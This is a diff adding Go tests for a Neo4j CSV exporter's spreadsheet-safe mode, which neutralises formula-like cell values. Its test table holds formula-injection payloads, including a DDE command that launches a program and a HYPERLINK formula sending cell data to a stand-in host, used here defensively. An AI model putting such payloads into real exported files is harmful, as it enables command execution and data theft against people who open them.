@@ -55,6 +55,99 @@ x,kremlin,OPPOSES,negated,false,0,,
 	}
 }
 
+// writeNeo4jWith is writeNeo4j with options.
+func writeNeo4jWith(t *testing.T, g *Graph, opts Neo4jCSVOptions) (nodes, rels string) {
+	t.Helper()
+	var n, r bytes.Buffer
+	if err := g.WriteNeo4jCSVWith(&n, &r, opts); err != nil {
+		t.Fatalf("WriteNeo4jCSVWith(%+v): %v", opts, err)
+	}
+	return n.String(), r.String()
+}
+
+// TestWriteNeo4jCSVWith checks that the zero options write what WriteNeo4jCSV writes, and
+// that SpreadsheetSafe changes nothing in files without formula cells.
+func TestWriteNeo4jCSVWith(t *testing.T) {
+	for name, g := range map[string]*Graph{"neo4j": neo4jGraph(), "test": testGraph(), "empty": buildGraph(nil, nil)} {
+		wantNodes, wantRels := writeNeo4j(t, g)
+		for _, opts := range []Neo4jCSVOptions{{}, {SpreadsheetSafe: true}} {
+			nodes, rels := writeNeo4jWith(t, g, opts)
+			if diff := cmp.Diff(string(wantNodes), nodes); diff != "" {
+				t.Errorf("%s graph, %+v: nodes.csv (-WriteNeo4jCSV +WriteNeo4jCSVWith):\n%s", name, opts, diff)
+			}
+			if diff := cmp.Diff(string(wantRels), rels); diff != "" {
+				t.Errorf("%s graph, %+v: relationships.csv (-WriteNeo4jCSV +WriteNeo4jCSVWith):\n%s", name, opts, diff)
+			}
+		}
+	}
+}
+
+// TestWriteNeo4jCSVSpreadsheetSafe puts a value in every text column of both files and
+// checks how each mode writes it: as it is by default, behind a quote when spreadsheets
+// would take it for a formula in SpreadsheetSafe mode.
+func TestWriteNeo4jCSVSpreadsheetSafe(t *testing.T) {
+	tests := []struct {
+		name, value string
+		quoted      bool // whether SpreadsheetSafe puts a quote before it
+	}{
+		{"formula", "=1+2", true},
+		{"DDE", "=cmd|' /C calc'!A0", true},
+		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, true},
+		{"plus", "+1-2", true},
+		{"minus", "-2+3", true},
+		{"at", "@SUM(A1:A9)", true},
+		{"plain", "Donald Trump", false},
+		{"equals inside", "a=b", false},
+		{"quote first", "'=quoted", false},
+		{"space first", " =1", false}, // not in OWASP's list
+		{"tab first", "\t=1", false},  // csvValue makes the tab a space
+		{"carriage return first", "\r=1", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := tt.value
+			g := buildGraph([]*Actor{
+				{ID: v, Name: v, Kind: Person, Country: v, Aliases: []string{v}, Roles: []Role{{Title: v}}},
+				{ID: "b", Name: "B"},
+			}, []*Relation{{Type: Supports, Source: v, Target: "b", Modality: Actual, Evidence: []Evidence{{Doc: v, Text: v}}}})
+			cell := csvValue(v)
+			for _, opts := range []Neo4jCSVOptions{{}, {SpreadsheetSafe: true}} {
+				want := cell
+				if opts.SpreadsheetSafe && tt.quoted {
+					want = "'" + cell
+				}
+				nodes, rels := writeNeo4jWith(t, g, opts)
+				records := map[string][][]string{}
+				for file, out := range map[string]string{"nodes": nodes, "relationships": rels} {
+					r, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+					if err != nil {
+						t.Fatalf("%s: %v", file, err)
+					}
+					records[file] = r
+				}
+				wantNodes := [][]string{
+					{"id:ID(Actor)", "name", "kind", "country", "aliases:string[]", "roles:string[]", "mentions:int", ":LABEL"},
+					{want, want, "person", want, want, want, "0", "Actor;Person"},
+					{"b", "B", "", "", "", "", "0", "Actor"},
+				}
+				wantRels := [][]string{
+					{":START_ID(Actor)", ":END_ID(Actor)", ":TYPE", "modality", "symmetric:boolean", "evidence:int", "text", "docs:string[]"},
+					{want, "b", "SUPPORTS", "actual", "false", "1", want, want},
+				}
+				if v > "b" { // actors and relations are sorted by ID
+					wantNodes[1], wantNodes[2] = wantNodes[2], wantNodes[1]
+				}
+				if diff := cmp.Diff(wantNodes, records["nodes"]); diff != "" {
+					t.Errorf("%+v: nodes.csv (-want +got):\n%s", opts, diff)
+				}
+				if diff := cmp.Diff(wantRels, records["relationships"]); diff != "" {
+					t.Errorf("%+v: relationships.csv (-want +got):\n%s", opts, diff)
+				}
+			}
+		})
+	}
+}
+
 func TestNeo4jType(t *testing.T) {
 	seen := map[string]bool{}
 	for _, rt := range RelationTypes {
